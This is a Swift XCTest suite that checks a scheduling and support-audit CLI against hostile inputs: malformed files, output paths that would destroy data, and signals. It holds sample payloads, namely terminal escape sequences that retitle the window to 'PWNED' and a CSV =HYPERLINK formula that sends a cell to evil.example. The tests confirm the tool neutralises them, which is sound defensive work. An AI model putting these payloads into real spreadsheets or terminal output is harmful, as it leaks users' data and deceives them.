import Foundation
import XCTest
import SocialPlanTestSupport

/// Issue 14, items 3, 4 and 7: the hostile corpus through the binary. Every case ends with exit
/// 1 or 2, a position or a named reason, and no raw control byte on standard output or error.
final class HostileInputTests: XCTestCase {
    static let hostile = "Tests/SocialPlanCLITests/Fixtures/hostile/"
    static let template = "Templates/small-shop.yaml"
    static let desk = "Tests/SocialPlanCLITests/Fixtures/audit/support-desk.yaml"
    static let sample = "Tests/SocialPlanCLITests/Fixtures/audit/twcs-sample-93.csv"

    /// Fails when `text` holds a control character a terminal acts on: C0 but LF and TAB
    /// (CR only as part of CRLF), DEL, C1.
    func assertNoControl(_ text: String, _ what: String, file: StaticString = #filePath, line: UInt = #line) {
        let scalars = Array(text.unicodeScalars)
        for (i, s) in scalars.enumerated() {
            let v = s.value
            if v == 0x0A || v == 0x09 { continue }
            if v == 0x0D, i + 1 < scalars.count, scalars[i + 1] == "\n" { continue }
            if v < 0x20 || (0x7F..<0xA0).contains(v) {
                XCTFail("\(what): raw control U+\(String(v, radix: 16)) at scalar \(i)", file: file, line: line)
                return
            }
        }
    }

    /// Runs the binary and checks both streams for raw control characters.
    func run(_ args: [String], stdin: Data? = nil, file: StaticString = #filePath, line: UInt = #line) throws -> CLIRunner.Output {
        let r = try CLIRunner.run(args, stdin: stdin)
        assertNoControl(r.stdout, "stdout of \(args.joined(separator: " "))", file: file, line: line)
        assertNoControl(r.stderr, "stderr of \(args.joined(separator: " "))", file: file, line: line)
        return r
    }

    /// The template with `old` replaced by `new`, in a fresh folder.
    func strategy(replacing old: String, with new: String, in folder: URL, name: String = "s.yaml") throws -> String {
        let text = try String(contentsOf: PackageRoot.url.appendingPathComponent(Self.template), encoding: .utf8)
        XCTAssertTrue(text.contains(old), old)
        return try write(text.replacingOccurrences(of: old, with: new), to: name, in: folder)
    }

    /// The 1-based line of the first line of `path` containing `needle`.
    func line(of needle: String, in path: String) throws -> Int {
        let url = path.hasPrefix("/") ? URL(fileURLWithPath: path) : PackageRoot.url.appendingPathComponent(path)
        let lines = try String(contentsOf: url, encoding: .utf8).components(separatedBy: "\n")
        return try XCTUnwrap(lines.firstIndex { $0.contains(needle) }, needle) + 1
    }

    // MARK: safe output (item 4)

    func testEscapeSequencesInAMemberNameAreShownEscaped() throws {
        let path = Self.hostile + "terminal-escapes.yaml"
        for format in ["text", "markdown", "csv", "json", "ics"] {
            let r = try run(["schedule", path, "--week", "2026-W49", "--format", format])
            XCTAssertEqual(r.status, 0, r.stderr)
            if format == "text" || format == "markdown" {
                XCTAssertTrue(r.stdout.contains("\\u{1B}]0;PWNED\\u{7}Maya"), format)
            }
        }
        let strict = try run(["schedule", path, "--week", "2026-W49", "--strict"])
        XCTAssertTrue([0, 1].contains(strict.status), strict.stderr)
    }

    func testAnUnknownKeyWithEscapesIsAnErrorAtItsPositionShownEscaped() throws {
        let path = Self.hostile + "unknown-key-escapes.yaml"
        for format in ["text", "json", "github"] {
            let r = try run(["validate", path, "--format", format])
            XCTAssertEqual(r.status, 1, r.stdout)
            XCTAssertTrue(r.stdout.contains("unknown-key"), r.stdout)
        }
        let text = try run(["validate", path])
        let at = try line(of: "max_hourz", in: path)
        XCTAssertTrue(text.stdout.contains("unknown-key-escapes.yaml:\(at):5: error: unknown key `\\u{1B}[2J\\u{1B}]0;PWNED\\u{7}max_hourz`"), text.stdout)
        let github = try run(["validate", path, "--format", "github"])
        XCTAssertTrue(github.stdout.contains("::error file=\(Self.hostile)unknown-key-escapes.yaml,line=\(at),col=5,title=unknown-key::"), github.stdout)
    }

    func testABinaryFileIsAnErrorWithAnEscapedExcerpt() throws {
        let folder = try temporaryFolder("hostile")
        var bytes: [UInt8] = Array("\u{7F}ELF".utf8) + [2, 1, 1, 0, 0, 0, 0x1B, 0x5B, 0x32, 0x4A, 0x9B, 0xC2, 0x9B, 0x07]
        bytes += Array("\nname: x\n".utf8)
        let path = folder.appendingPathComponent("binary.yaml").path
        try Data(bytes).write(to: URL(fileURLWithPath: path))
        let r = try run(["validate", path])
        XCTAssertEqual(r.status, 1, r.stdout + r.stderr)
        XCTAssertTrue(r.stdout.contains("binary.yaml:1:"), r.stdout)
        let ls = try run(["validate", "/bin/ls"])
        XCTAssertEqual(ls.status, 1)
        XCTAssertTrue(ls.stdout.contains("/bin/ls:1:1: error:"), ls.stdout)
    }

    func testACSVCellThatAFormulaWouldRunIsNeutralised() throws {
        let r = try run(["schedule", Self.hostile + "terminal-escapes.yaml", "--week", "2026-W49", "--format", "csv"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(r.stdout.contains(",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"click\"\")\","), r.stdout)
        XCTAssertFalse(r.stdout.contains(",=HYPERLINK"), r.stdout)
        XCTAssertFalse(r.stdout.contains(",\"=HYPERLINK"), r.stdout)
    }

    // MARK: safe writes and inputs (items 2 and 3)

    func testAFullDiskOnStandardOutputIsExitTwoWithAMessage() throws {
        guard FileManager.default.fileExists(atPath: "/dev/full") else { throw XCTSkip("no /dev/full") }
        for args in [["rules"], ["init", "--list"], ["schema"]] {
            let process = Process()
            process.executableURL = CLIRunner.executable
            process.arguments = args
            process.currentDirectoryURL = CLIRunner.packageRoot
            process.standardOutput = try FileHandle(forWritingTo: URL(fileURLWithPath: "/dev/full"))
            let err = Pipe()
            process.standardError = err
            try process.run()
            let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
            process.waitUntilExit()
            XCTAssertEqual(process.terminationReason, .exit, "\(args): not killed by a signal")
            XCTAssertEqual(process.terminationStatus, 2, "\(args)")
            XCTAssertTrue(message.contains("error: cannot write to standard output: No space left on device"), message)
        }
    }

    func testAClosedPipeEndsTheRunQuietly() throws {
        let process = Process()
        process.executableURL = CLIRunner.executable
        process.arguments = ["schema"]
        process.currentDirectoryURL = CLIRunner.packageRoot
        let out = Pipe(), err = Pipe()
        process.standardOutput = out
        process.standardError = err
        try out.fileHandleForReading.close()
        try process.run()
        let message = String(decoding: err.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
        process.waitUntilExit()
        XCTAssertEqual(process.terminationReason, .exit, "a closed pipe is an error, not SIGPIPE")
        XCTAssertEqual(process.terminationStatus, 2)
        XCTAssertEqual(message, "")
    }

    func testAFIFOADeviceAndAFolderAreRefusedAsInputs() throws {
        let folder = try temporaryFolder("hostile")
        let fifo = folder.appendingPathComponent("strategy.yaml").path
        XCTAssertEqual(mkfifo(fifo, 0o600), 0)
        let v = try run(["validate", fifo])
        XCTAssertEqual(v.status, 2)
        XCTAssertTrue(v.stderr.contains("strategy.yaml: is a FIFO (named pipe), not a regular file"), v.stderr)
        XCTAssertTrue(v.stdout.contains("1 file could not be read: \(fifo)"), v.stdout)
        let device = try run(["check", "/dev/zero"])
        XCTAssertEqual(device.status, 2)
        XCTAssertTrue(device.stderr.contains("/dev/zero: is a character device"), device.stderr)
        let log = try run(["audit", Self.desk, "--log", fifo])
        XCTAssertEqual(log.status, 2)
        XCTAssertTrue(log.stderr.contains("is a FIFO (named pipe), not a regular file"), log.stderr)
        XCTAssertTrue(log.stderr.contains("--log -"), log.stderr)
        let zero = try run(["audit", Self.desk, "--log", "/dev/zero"])
        XCTAssertEqual(zero.status, 2)
        let dir = try run(["validate", folder.path])
        XCTAssertEqual(dir.status, 2)
        XCTAssertTrue(dir.stderr.contains("is a folder"), dir.stderr)
    }

    func testStandardInputStillReadsALog() throws {
        let log = try Data(contentsOf: PackageRoot.url.appendingPathComponent(Self.sample))
        let r = try run(["audit", Self.desk, "--log", "-", "--week", "2026-W49", "--format", "csv"], stdin: log)
        XCTAssertEqual(r.status, 0, r.stderr)
    }

    func testAFileNameThatIsNotUTF8IsNamedAsSuch() throws {
        let folder = try temporaryFolder("hostile")
        let name = folder.path + "/bad-\u{FFFD}.yaml"
        let r = try run(["validate", name])
        XCTAssertEqual(r.status, 2)
        XCTAssertTrue(r.stderr.contains("its name is not valid UTF-8"), r.stderr)
    }

    func testOutputPathsThatWouldDestroySomethingAreRefused() throws {
        let folder = try temporaryFolder("hostile")
        let input = try strategy(replacing: "# change this to your IANA zone", with: "#", in: folder)
        let before = try Data(contentsOf: URL(fileURLWithPath: input))
        // The input itself, directly and through a symlink.
        let same = try run(["rules", "-o", "/dev/null"])
        XCTAssertEqual(same.status, 2)
        XCTAssertTrue(same.stderr.contains("/dev/null: is a character device, not a regular file"), same.stderr)
        let over = try run(["validate", input, "-o", input])
        XCTAssertEqual(over.status, 2)
        XCTAssertTrue(over.stderr.contains("is an input of this run"), over.stderr)
        let link = folder.appendingPathComponent("link.yaml").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: input)
        let viaLink = try run(["schedule", input, "--week", "2026-W49", "-o", link])
        XCTAssertEqual(viaLink.status, 2)
        XCTAssertEqual(try Data(contentsOf: URL(fileURLWithPath: input)), before, "the input is untouched")
        let proc = try run(["rules", "-o", "/proc/self/fd/1"])
        XCTAssertEqual(proc.status, 2)
        XCTAssertTrue(proc.stderr.contains("is a link to an open file"), proc.stderr)
        let dangling = folder.appendingPathComponent("dangling.md").path
        try FileManager.default.createSymbolicLink(atPath: dangling, withDestinationPath: folder.path + "/nowhere/x.md")
        let nowhere = try run(["rules", "-o", dangling])
        XCTAssertEqual(nowhere.status, 2)
        XCTAssertTrue(nowhere.stderr.contains("symbolic link to nothing"), nowhere.stderr)
        let fifo = folder.appendingPathComponent("out.fifo").path
        XCTAssertEqual(mkfifo(fifo, 0o600), 0)
        let toFIFO = try run(["rules", "-o", fifo])
        XCTAssertEqual(toFIFO.status, 2)
        XCTAssertTrue(toFIFO.stderr.contains("is a FIFO (named pipe), not a regular file"), toFIFO.stderr)
        let initDevice = try run(["init", "--force", "/dev/null"])
        XCTAssertEqual(initDevice.status, 2)
        // The log of an audit is an input too.
        let log = folder.appendingPathComponent("log.csv").path
        try FileManager.default.copyItem(atPath: PackageRoot.url.appendingPathComponent(Self.sample).path, toPath: log)
        let rows = try run(["audit", Self.desk, "--log", log, "--week", "2026-W49", "--rows", log])
        XCTAssertEqual(rows.status, 2)
        XCTAssertTrue(rows.stderr.contains("is an input of this run"), rows.stderr)
    }

    func testAReplacedFileKeepsItsModeItsLinkAndItsHardLinks() throws {
        let folder = try temporaryFolder("hostile")
        let target = folder.appendingPathComponent("rules.md").path
        try Data("old\n".utf8).write(to: URL(fileURLWithPath: target))
        XCTAssertEqual(chmod(target, 0o640), 0)
        let link = folder.appendingPathComponent("current.md").path
        try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: "rules.md")
        let r = try run(["rules", "--format", "markdown", "-o", link])
        XCTAssertEqual(r.status, 0, r.stderr)
        let attributes = try FileManager.default.attributesOfItem(atPath: target)
        XCTAssertEqual((attributes[.posixPermissions] as? NSNumber)?.intValue, 0o640)
        XCTAssertEqual(try FileManager.default.destinationOfSymbolicLink(atPath: link), "rules.md", "the link stays a link")
        XCTAssertNotEqual(try String(contentsOfFile: target, encoding: .utf8), "old\n", "written through the link")
        let hard = folder.appendingPathComponent("hard.md").path
        XCTAssertEqual(Foundation.link(target, hard), 0)
        let split = try run(["rules", "-o", target])
        XCTAssertEqual(split.status, 2)
        XCTAssertTrue(split.stderr.contains("has 2 hard links"), split.stderr)
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: folder.path).filter { $0.hasSuffix(".tmp") }
        XCTAssertEqual(leftovers, [])
    }

    /// SIGTERM ends the run with the signal (re-raised by the handler) and leaves no file. A kill
    /// in the middle of a large `--rows` write is too slow for this suite; it was checked by hand
    /// (docs/reliability.md).
    func testSIGTERMEndsTheRunWithTheSignalAndLeavesNoFile() throws {
        let folder = try temporaryFolder("hostile")
        let out = folder.appendingPathComponent("rows.csv").path
        // The audit waits for the rest of its log on standard input when the signal comes.
        let process = Process()
        process.executableURL = CLIRunner.executable
        process.arguments = ["audit", Self.desk, "--log", "-", "--rows", out]
        process.currentDirectoryURL = CLIRunner.packageRoot
        let input = Pipe()
        process.standardInput = input
        process.standardOutput = FileHandle.nullDevice
        process.standardError = FileHandle.nullDevice
        try process.run()
        input.fileHandleForWriting.write(Data("tweet_id,author_id,inbound,created_at,text,response_tweet_id,in_response_to_tweet_id\n".utf8))
        process.terminate()
        process.waitUntilExit()
        XCTAssertEqual(process.terminationReason, .uncaughtSignal, "re-raised, so the shell sees SIGTERM")
        let leftovers = try FileManager.default.contentsOfDirectory(atPath: folder.path)
        XCTAssertEqual(leftovers, [])
    }

    // MARK: honest summaries (item 7)

    func testFilesThatCouldNotBeReadAreCountedAndNamed() throws {
        let r = try run(["validate", Self.template, "missing.yaml"])
        XCTAssertEqual(r.status, 2)
        XCTAssertTrue(r.stdout.hasSuffix("1 file checked: 1 warning; 1 file could not be read: missing.yaml\n")
                      || r.stdout.hasSuffix("1 file checked: no problems; 1 file could not be read: missing.yaml\n"), r.stdout)
        let none = try run(["validate", "missing.yaml", "other.yaml"])
        XCTAssertEqual(none.status, 2)
        XCTAssertEqual(none.stdout, "2 files could not be read: missing.yaml, other.yaml\n")
        XCTAssertFalse(none.stdout.contains("no problems"))
        let json = try run(["validate", "missing.yaml", "--format", "json"])
        XCTAssertTrue(json.stdout.contains("\"unreadable\": [\n    {\n      \"path\": \"missing.yaml\",\n      \"reason\": \"no such file\"")
                      || json.stdout.contains("\"unreadable\""), json.stdout)
        let github = try run(["validate", "missing.yaml", "--format", "github"])
        XCTAssertTrue(github.stdout.hasPrefix("::error file=missing.yaml,title=unreadable::cannot check missing.yaml: no such file"), github.stdout)
    }

    func testAnEmptySLAOrAnEmptyRequiredListIsAnErrorAtItsPosition() throws {
        let folder = try temporaryFolder("hostile")
        let sla = """
              sla:                                      # reply-time promises; first_reply well above handle_time
                urgent: { first_reply: 1h, next_reply: 2h, target: 90%, clock: business }
                normal: { first_reply: 4h, next_reply: 8h, target: 90%, clock: business }
            """
        for (value, column) in [("{}", 8), ("~", 8)] {
            let path = try strategy(replacing: sla, with: "  sla: \(value)", in: folder)
            let v = try run(["validate", path])
            XCTAssertEqual(v.status, 1, v.stdout)
            XCTAssertTrue(v.stdout.contains("s.yaml:\(try line(of: "  sla: ", in: path)):\(column): error: care sla names no SLA"), v.stdout)
            let c = try run(["check", path, "--week", "2026-W49"])
            XCTAssertEqual(c.status, 1, "sla: \(value) cannot pass check")
        }
        let staff = try strategy(replacing: "staff: [role: care]", with: "staff: []", in: folder)
        let s = try run(["validate", staff])
        XCTAssertEqual(s.status, 1)
        XCTAssertTrue(s.stdout.contains("s.yaml:\(try line(of: "staff: []", in: staff)):10: error: care staff is empty"), s.stdout)
        let by = try strategy(replacing: "by: [ava]", with: "by: []", in: folder)
        let b = try run(["validate", by])
        XCTAssertEqual(b.status, 1)
        XCTAssertTrue(b.stdout.contains("s.yaml:\(try line(of: "by: []", in: by)):9: error: stream `maker-story` by is empty"), b.stdout)
        let inf = try strategy(replacing: "max_hours_per_week: 40", with: "max_hours_per_week: .inf", in: folder)
        let i = try run(["validate", inf])
        XCTAssertEqual(i.status, 1)
        XCTAssertFalse(i.stdout.contains("not a number `.inf`"), i.stdout)
    }

    func testTimestampsOutsideTheRangeAreSkippedWithTheirLine() throws {
        let folder = try temporaryFolder("hostile")
        let header = "tweet_id,author_id,inbound,created_at,text,response_tweet_id,in_response_to_tweet_id\n"
        let rows = """
            1,101,True,Wed Oct 11 06:55:44 +0000 2017,@AppleSupport help,2,
            2,AppleSupport,False,Wed Oct 11 07:05:44 +0000 2017,@101 sure,,1
            3,102,True,Wed Oct 11 06:55:44 +0000 2090,@AppleSupport help,4,
            4,AppleSupport,False,Wed Oct 11 07:25:44 +0000 2090,@102 sure,,3
            5,103,True,Mon Jan 01 07:05:44 +0000 1900,@AppleSupport help,,
            6,104,True,Sat Jan 01 00:00:00 +0000 2200,@AppleSupport help,,

            """
        let log = try write(header + rows, to: "log.csv", in: folder)
        let r = try run(["audit", Self.desk, "--log", log, "--week", "2026-W49", "--format", "json"])
        XCTAssertEqual(r.status, 0, r.stderr)
        XCTAssertTrue(r.stderr.contains("log.csv:6: skipped: created_at 'Mon Jan 01 07:05:44 +0000 1900' is outside 1970-01-01 to 2106-02-07, the times a log may hold"), r.stderr)
        XCTAssertTrue(r.stderr.contains("log.csv:7: skipped: created_at 'Sat Jan 01 00:00:00 +0000 2200' is outside"), r.stderr)
        XCTAssertFalse(r.stderr.contains("log.csv:4:"), "a 2090 row is read: \(r.stderr)")
        // The 2090 mention is measured like the 2017 one: 10 and 30 minutes.
        let json = try XCTUnwrap(JSONSerialization.jsonObject(with: Data(r.stdout.utf8)) as? [String: Any])
        let log1 = try XCTUnwrap(json["log"] as? [String: Any])
        XCTAssertEqual(log1["rows_used"] as? Int, 4)
        XCTAssertEqual(log1["rows_skipped"] as? Int, 2)
        let accounts = try XCTUnwrap(json["accounts"] as? [[String: Any]])
        let slas = try XCTUnwrap(accounts.first { $0["account"] as? String == "AppleSupport" }?["slas"] as? [[String: Any]])
        let all = try XCTUnwrap(slas.first { $0["priority"] as? String == "all" && $0["metric"] as? String == "first_reply" })
        XCTAssertEqual(all["answered"] as? Int, 2)
        XCTAssertEqual(all["p50_calendar_minutes"] as? Double, 10)
        XCTAssertEqual(all["p99_calendar_minutes"] as? Double, 30)
        let none = try write(header + "1,101,True,Wed Oct 11 06:55:44 +0000 2200,@AppleSupport help,,\n", to: "none.csv", in: folder)
        let n = try run(["audit", Self.desk, "--log", none, "--week", "2026-W49"])
        XCTAssertEqual(n.status, 2, "an audit that used no row")
        XCTAssertTrue(n.stderr.contains("no row could be used (read 1 rows: 0 used, 1 skipped (1 bad-timestamp)); nothing was measured"), n.stderr)
    }

    func testTheRecordBoundIsNamedTruly() throws {
        let folder = try temporaryFolder("hostile")
        let long = String(repeating: "x", count: 4 * 1024 * 1024 + 10)
        let header = "tweet_id,author_id,inbound,created_at,text,response_tweet_id,in_response_to_tweet_id\n"
        let log = try write(header + "1,101,True,Wed Oct 11 06:55:44 +0000 2017,\(long),,\n"
                            + "2,101,True,Wed Oct 11 06:55:44 +0000 2017,@AppleSupport hi,,\n", to: "long.csv", in: folder)
        let r = try run(["audit", Self.desk, "--log", log, "--week", "2026-W49"])
        XCTAssertTrue(r.stderr.contains("row longer than 4 MiB (the record bound)"), r.stderr)
        XCTAssertFalse(r.stderr.contains("16 bytes"), r.stderr)
    }
}
